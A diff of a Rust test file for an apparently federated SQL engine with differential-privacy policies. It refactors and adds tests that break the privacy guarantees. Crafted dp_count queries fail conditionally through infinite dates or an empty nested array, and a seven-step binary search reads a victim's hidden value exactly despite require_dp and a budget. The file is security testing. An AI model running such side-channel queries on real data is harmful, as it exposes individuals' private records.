@@ -186,19 +186,20 @@ async fn breaks_two_out_of_range_dates_fail_a_dp_query_on_one_row() {
 /// row (id 17, x = 42) dated `-infinity`. `WHERE id <> 17 OR x > m` lets
 /// the victim's row in exactly when x > m, and the query fails exactly
 /// then: seven halvings of [0, 128) read x = 42 for ε = 0.07.
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn breaks_an_analyst_reads_a_value_over_workers_through_infinite_dates() {
+/// Real `fedsql worker`s, one per data set (a Parquet file each), under a
+/// worker's default disclosure policy, `require_dp`, a budget of 1 and
+/// `d` declared public; and a coordinator's context with the table `t`.
+async fn dp_workers(
+    datasets: &[Vec<(i32, i64, i64)>],
+) -> (crate::remote::Workers, FedContext, tempfile::TempDir) {
     use fedsql::site::worker::WorkerConfig;
     use std::sync::atomic::{AtomicUsize, Ordering};
     let dir = tempfile::TempDir::new().unwrap();
-    let files: Vec<std::path::PathBuf> = (0..2)
-        .map(|c| {
-            let mut rows = ordinary();
-            if c == 0 {
-                rows.push((INFINITY, 100, 7));
-                rows.push((MINUS_INFINITY, 17, 42));
-            }
-            let batch = date_batch(&rows);
+    let files: Vec<std::path::PathBuf> = datasets
+        .iter()
+        .enumerate()
+        .map(|(c, rows)| {
+            let batch = date_batch(rows);
             let path = dir.path().join(format!("site{c}.parquet"));
             let file = std::fs::File::create(&path).unwrap();
             let mut writer =
@@ -227,15 +228,20 @@ async fn breaks_an_analyst_reads_a_value_over_workers_through_infinite_dates() {
     // Control: an exact aggregate is refused (require_dp).
     let exact = crate::attacks::answer(&ctx, "SELECT count(*) FROM t").await;
     assert!(exact.is_err_and(|e| e.contains("require_dp")));
+    (workers, ctx, dir)
+}
+
+/// Halves [0, 128) by whether `sql(m)` fails (the victim's x > m): the
+/// value read and the queries it took; prints the last failure and the
+/// budget spent.
+async fn halve(ctx: &FedContext, sql: impl Fn(i64) -> String) -> (i64, usize) {
     let (mut lo, mut hi) = (0i64, 128i64);
     let mut queries = 0;
     let mut last_error = String::new();
     while hi - lo > 1 {
         let m = (lo + hi) / 2 - 1;
-        let sql =
-            format!("SELECT d, dp_count(*, 0.01) AS n FROM t WHERE id <> 17 OR x > {m} GROUP BY d");
         queries += 1;
-        match crate::attacks::answer(&ctx, &sql).await {
+        match crate::attacks::answer(ctx, &sql(m)).await {
             // x > m
             Err(e) => {
                 last_error = e;
@@ -245,12 +251,25 @@ async fn breaks_an_analyst_reads_a_value_over_workers_through_infinite_dates() {
         }
     }
     eprintln!("{queries} queries; the failure reads: {last_error}");
-    assert_eq!(lo, 42, "the victim's x, read exactly");
-    assert_eq!(queries, 7);
-    let budget = crate::attacks::answer(&ctx, "SHOW PRIVACY BUDGET t")
+    let budget = crate::attacks::answer(ctx, "SHOW PRIVACY BUDGET t")
         .await
         .unwrap();
-    eprintln!("{budget}");
+    eprintln!("budget (client, budget, spent, remaining): {budget}");
+    (lo, queries)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn breaks_an_analyst_reads_a_value_over_workers_through_infinite_dates() {
+    let mut victim_site = ordinary();
+    victim_site.push((INFINITY, 100, 7));
+    victim_site.push((MINUS_INFINITY, 17, 42));
+    let (_workers, ctx, _dir) = dp_workers(&[victim_site, ordinary()]).await;
+    let (x, queries) = halve(&ctx, |m| {
+        format!("SELECT d, dp_count(*, 0.01) AS n FROM t WHERE id <> 17 OR x > {m} GROUP BY d")
+    })
+    .await;
+    assert_eq!(x, 42, "the victim's x, read exactly");
+    assert_eq!(queries, 7);
 }
 
 /// `require_secure` with `g` declared public as 0 and 1.
@@ -364,4 +383,23 @@ async fn breaks_array_length_panics_on_one_rows_empty_nested_list() {
     eprintln!("x > 41: {yes:?}\nx > 42: {no:?}");
     assert!(yes.is_err(), "{yes:?}");
     assert!(no.is_ok(), "{no:?}");
+}
+
+/// BREAK (high) — the same over real `fedsql worker`s, by SQL alone, with
+/// no unusual data: under `require_dp` and a budget of 1, seven
+/// `dp_count` queries at ε = 0.01 whose filter makes an empty list of
+/// lists for the victim's row (id 17) when x > m read its x = 42 exactly.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn breaks_an_analyst_reads_a_value_over_workers_through_array_length() {
+    let mut victim_site = ordinary();
+    victim_site.push((DAY, 17, 42));
+    let (_workers, ctx, _dir) = dp_workers(&[victim_site, ordinary()]).await;
+    let (x, queries) = halve(&ctx, |m| {
+        format!(
+            "SELECT dp_count(*, 0.01) AS n FROM t WHERE array_length(CASE WHEN id = 17 AND x > {m} THEN make_array() ELSE make_array(make_array(1)) END, 2) = 1"
+        )
+    })
+    .await;
+    assert_eq!(x, 42, "the victim's x, read exactly");
+    assert_eq!(queries, 7);
 }
